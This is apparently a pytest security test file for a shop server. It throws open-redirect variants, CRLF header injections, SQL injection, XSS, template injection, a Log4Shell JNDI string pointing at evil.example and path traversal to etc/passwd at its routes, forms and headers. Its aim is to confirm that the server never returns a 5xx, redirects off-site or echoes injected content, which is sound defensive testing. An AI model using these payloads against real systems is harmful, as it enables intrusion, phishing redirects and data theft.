"""Whatever an address, a form or a header holds: a page or 4xx of our own, never a 5xx, never a way to another site."""

import re
import socket
from collections.abc import AsyncIterator, Iterator
from http.client import HTTPResponse
from itertools import chain, count, cycle
from pathlib import Path
from typing import NamedTuple
from urllib.parse import quote, urlencode, urlsplit

import pytest

from catalog import products
from catalog.schemas import PriceIn, ProductCreate, VariantCreate
from core import shops
from core.db import Database
from social.links import links
from social.links.schemas import LinkCreate
from tests import linux
from tests.api.cli.test_server import Server, serving

EVIL = "evil.example"
# Ways to another site, by browsers' rules (the WHATWG URL standard): what a careless redirect would follow.
AWAY = [
    f"https://{EVIL}", f"//{EVIL}", f"///{EVIL}", f"/\\{EVIL}", f"\\\\{EVIL}", f"\\/{EVIL}", f"http:{EVIL}",
    f"https:/{EVIL}", f"\t//{EVIL}", f"/\t/{EVIL}", f"/\n/{EVIL}", f" //{EVIL}", f"\x01//{EVIL}", f"/.//{EVIL}",
    f"/..//{EVIL}", f"javascript:alert(1)//{EVIL}", "data:text/html,<script>alert(1)</script>", f"@{EVIL}",
    f"//user:pass@{EVIL}:443/%2f..", f"//127.0.0.1@{EVIL}", f"//{EVIL}#@127.0.0.1", f"//{EVIL}%00.127.0.0.1",
    "//ｅｖｉｌ.example", "//еvil.example", "//xn--vil-8cd.example", "//evil。example", f"//[::ffff:{EVIL}]",
    f"%2f%2f{EVIL}", f"%252f%252f{EVIL}", f"%5c%5c{EVIL}", f"/%09/{EVIL}", f"/%0d%0aLocation:%20https://{EVIL}/",
]  # fmt: skip
ODD = [
    "", "%00", "a%00b", "%0d%0aX-Evil:%201", "%0aSet-Cookie:%20evil=1", "%e5%98%8a%e5%98%8dX-Evil:1", "%ff%fe",
    "%c0%ae%c0%ae%2f", "%u0041", "%", "%2", "%zz", "~", "~=", "~QQ", "~QR", "~QQ==", "~!!!", "~" + "A" * 4000,
    "A" * 8000,
    "-1", "0", "1e9", "9" * 400, "٣", "\u202e", "𝕏" * 300, "' OR 1=1 --", "<script>alert(1)</script>", "{{7*7}}",
    "${jndi:ldap://evil.example/a}", "../" * 60 + "etc/passwd", "..%2f" * 60, "[]", "a[b]=c", ";", "&", "=", "#", "?",
]  # fmt: skip
PARAMETERS = [
    "sl", "cart", "from", "continue_to", "products", "coupon", "cart_origin", "utm_source", "attribution/utm_source",
    "attribution/ref", "discounts/codes/0", "line_items/0/item/id", "line_items/0/quantity", "context/address_country",
    "product", "variant", "quantity", "page", "pay", "ship_to", "changed", "fbclid", "url", "next", "redirect",
    "redir_url", "return_to", "/continue_to", "products_json", "via", "after", "show", "lang", "format", "maxwidth",
]  # fmt: skip
HEADERS = [
    {"Host": EVIL}, {"Host": f"{EVIL}:80"}, {"Host": f"127.0.0.1@{EVIL}"}, {"Host": "[::1"}, {"Host": "a b"},
    {"X-Forwarded-Host": EVIL}, {"X-Forwarded-Proto": "javascript"}, {"X-Forwarded-For": "' OR 1=1"},
    {"X-Forwarded-For": "1.2.3.4, " * 900}, {"Forwarded": f"host={EVIL};proto=https;for=_x"},
    {"X-Original-URL": "/v1/shop"},
    {"X-Rewrite-URL": f"//{EVIL}"}, {"X-Forwarded-Prefix": f"//{EVIL}"}, {"X-Real-Ip": "::ffff:999.1.1.1"},
    {"Referer": f"https://{EVIL}/\x01\xff"}, {"Referer": "https://[::1"}, {"Cookie": "sl-x=" + "." * 4000},
    {"Cookie": "\xff=\x01; =; ;;"}, {"Accept-Language": "x" * 4000}, {"Accept-Language": "fr;q=nan,*;q=-1"},
    {"User-Agent": "\xff" * 3000}, {"Origin": f"https://{EVIL}"}, {"X-Http-Method-Override": "DELETE"},
    {"CF-IPCountry": "\xff\xff"}, {"Range": "bytes=9-1"}, {"Expect": "100-continue"}, {"If-None-Match": '"' * 3000},
]  # fmt: skip


class Answer(NamedTuple):
    """What came back for one request."""

    status: int
    headers: list[tuple[str, str]]
    body: bytes

    @property
    def location(self) -> str | None:
        return next((value for name, value in self.headers if name.lower() == "location"), None)


class Door:
    """A server's front door, knocked on with bytes that no client would send; and what is behind it."""

    def __init__(self, server: Server, ways: list[str], forms: list[str]) -> None:
        self.server, self.ways, self.forms = server, ways, forms
        self._houses = count(256)

    def ask(
        self, target: str, headers: dict[str, str] | None = None, form: str | None = None, method: str = "GET"
    ) -> Answer:
        """The answer to one request on a connection of its own; signs that no request line takes are encoded."""
        fields = {
            "Host": f"127.0.0.1:{self.server.port}",
            "Accept": "text/html",
            "Connection": "close",
            **(headers or {}),
        }
        body = b"" if form is None else form.encode()
        if form is not None:
            method = "POST"
            fields |= {"Content-Type": "application/x-www-form-urlencoded", "Content-Length": str(len(body))}
        head = "".join(f"{name}: {value}\r\n" for name, value in fields.items())
        # From another house each time: who asks for too much that is not there is told to wait.
        number = next(self._houses)
        source = f"127.{number >> 8 & 255}.{number & 255}.1"
        with socket.create_connection(("127.0.0.1", self.server.port), 30, (source, 0)) as connection:
            line = f"{method} {line_safe(target)} HTTP/1.1\r\n{head}\r\n"
            connection.sendall(line.encode("latin-1", "replace") + body)
            return _read(connection, method)


def _read(connection: socket.socket, method: str) -> Answer:
    answer = HTTPResponse(connection, method=method)
    answer.begin()
    return Answer(answer.status, answer.getheaders(), answer.read())


def line_safe(target: str) -> str:
    """The target with spaces, controls and everything beyond ASCII percent-encoded: a request line holds none."""
    return re.sub(r"[^\x21-\x7e]", lambda found: quote(found[0], safe=""), target)


def leads_to(location: str, base: str) -> str:
    """The host that a browser would go to, after the WHATWG URL standard; `?` for what is no web address."""
    text = re.sub(r"[\t\n\r]", "", location.strip("".join(map(chr, range(0x21)))))
    scheme = re.match(r"([A-Za-z][A-Za-z0-9+.-]*):", text)
    if scheme and scheme[1].lower() not in ("http", "https"):
        return "?"
    here = urlsplit(base)
    rest = text[scheme.end() :] if scheme else text
    rest = rest.replace("\\", "/")
    names_a_host = rest.startswith("//") or (scheme and (scheme[1].lower() != here.scheme or rest.startswith("/")))
    return re.split(r"[/?#]", rest.lstrip("/"), maxsplit=1)[0].rpartition("@")[2] if names_a_host else here.netloc


@pytest.fixture
async def door(db: Database, database_url: str, tmp_path: Path) -> AsyncIterator[Door]:
    """A server with a shop, a link, a cart and every public way in."""
    linux.needed("all of 127.0.0.0/8 as its own addresses")
    async with db.transaction() as session:
        shop = await shops.create(session, "Atelier Lune", "EUR")
        sold = VariantCreate(sku="VASE-1", available=5, prices=[PriceIn(amount=4900, currency="EUR")])
        product = await products.create(session, shop, ProductCreate(title="Vase Lune", variants=[sold]))
        link = await links.create(session, shop, LinkCreate(product_id=product.id, network="instagram"))
    with serving(database_url, tmp_path) as server:
        with server.connect():
            made = Door(server, [], []).ask("/buy/VASE-1:2")
        assert made.status == 303
        assert made.location is not None
        cart = urlsplit(made.location).path.removeprefix("/go/")
        ways = [
            f"/l/{link.slug}", f"/go/{link.slug}", f"/go/{cart}", "/buy/VASE-1:1", "/checkout",
            f"/s/{shop.slug}", f"/s/{shop.slug}/{product.slug}", "/oembed", f"/s/{shop.slug}/buy/VASE-1:1",
            f"/s/{shop.slug}/checkout", f"/s/{shop.slug}/.well-known/ucp", "/.well-known/ucp", "/orders/none", "/",
        ]  # fmt: skip
        forms = [f"/go/{link.slug}", f"/go/{cart}", f"/s/{shop.slug}/{product.slug}", "/go/beacon", "/orders/none"]
        yield Door(server, ways, forms)


def check(door: Door, target: str, answer: Answer) -> list[str]:
    """What is wrong with an answer."""
    base = f"http://127.0.0.1:{door.server.port}{target.partition('?')[0]}"
    ours = {f"127.0.0.1:{door.server.port}", "127.0.0.1:8000"}
    found = []
    # 501 is oEmbed's own word for a format that is not spoken.
    if answer.status >= 500 and (answer.status != 501 or not target.startswith("/oembed?")):
        found.append(f"{answer.status} for {target[:200]!r}")
    if answer.location is not None and leads_to(answer.location, base) not in ours:
        found.append(f"leads to {answer.location[:200]!r} from {target[:200]!r}")
    if any(name.lower() == "x-evil" or "evil=1" in value for name, value in answer.headers if name != "location"):
        found.append(f"a header of theirs for {target[:200]!r}")
    if re.search(rb"<script>alert\(1\)|<a[^>]+href=.?(?:javascript:|https?:/*evil|//evil)", answer.body):
        found.append(f"markup of theirs for {target[:200]!r}")
    return found


def targets(door: Door) -> Iterator[str]:
    """Addresses with something bad in them: where the name stands, behind it, and in each parameter."""
    for way in door.ways:
        parent = way.rpartition("/")[0]
        for bad in (*AWAY, *ODD):
            yield f"{parent}/{bad}"
        for bad in AWAY[:12]:
            yield f"{way}{bad}"
            yield f"{bad}{way}"
        yield f"{way}?" + "&".join(f"{name}={quote(AWAY[1])}" for name in PARAMETERS)
        yield f"{way}?" + "&".join(f"{name}=1&{name}=2" for name in PARAMETERS)
        yield f"{way}?" + "&".join(f"p{each}=x" for each in range(300))
        yield f"{way}?x=" + "y" * 8000
    away = (f"{name}={quote(bad, safe='%')}" for name in PARAMETERS for bad in AWAY)
    odd = (f"{name}={bad}" for name in PARAMETERS for bad in ODD)
    # Each parameter meets each bad value at one of the ways; all of them everywhere would take minutes.
    yield from (f"{way}?{pair}" for way, pair in zip(cycle(door.ways), chain(away, odd), strict=False))


@pytest.mark.timeout(300)
@pytest.mark.parametrize("engine", ["sqlite"])
async def test_no_address_leads_away_or_breaks_a_page(door: Door) -> None:
    wrong = [each for target in targets(door) for each in check(door, target, door.ask(target))]
    assert wrong == []


@pytest.mark.timeout(120)
@pytest.mark.parametrize("engine", ["sqlite"])
async def test_no_header_decides_where_an_address_leads(door: Door) -> None:
    wrong = [
        each
        for way in (*door.ways, "/buy/VASE-1:1?continue_to=/orders/x", "/checkout?products=VASE-1:1")
        for headers in HEADERS
        for each in check(door, way, door.ask(way, headers))
    ]
    assert wrong == []


@pytest.mark.timeout(120)
@pytest.mark.parametrize("engine", ["sqlite"])
async def test_no_form_leads_away_or_breaks_a_page(door: Door) -> None:
    wrong = []
    for way in door.forms:
        known = dict(re.findall(r'name="([^"]+)"[^>]*? value="([^"]*)"', door.ask(way).body.decode()))
        names = {"variant", "quantity", "page", "sl", "price", "ship_to", "source", "agreed", *known}
        bad = [known | {name: each} for name in sorted(names) for each in (*AWAY[::3], *ODD[::2])]
        forms = [urlencode(each, quote_via=lambda text, *_: quote(text, safe="%")) for each in bad]
        forms += ["&".join(f"{name}=1&{name}=2" for name in sorted(names)), "a=1&" * 3000, "\x00", "=" * 5000]
        wrong += [each for form in forms for each in check(door, way, door.ask(way, form=form))]
    for method in ("HEAD", "PUT", "DELETE", "OPTIONS", "TRACE", "PROPFIND", "get"):
        wrong += [each for way in door.ways for each in check(door, way, door.ask(way, method=method))]
    assert wrong == []


@pytest.mark.parametrize(
    ("location", "host"),
    [
        ("/go/x", "a.example"), ("x", "a.example"), ("?x", "a.example"), ("//b.example/x", "b.example"), ("/\\b", "b"),
        ("\t//b", "b"), ("/\n/b", "b"), ("https:b", "b"), ("http:x", "a.example"), ("http:/b", "b"),
        ("//a@b:1/", "b:1"),         ("javascript:x", "?"), ("///b", "b"),
    ],
)  # fmt: skip
def test_locations_are_read_as_browsers_read_them(location: str, host: str) -> None:
    assert leads_to(location, "http://a.example/y") == host
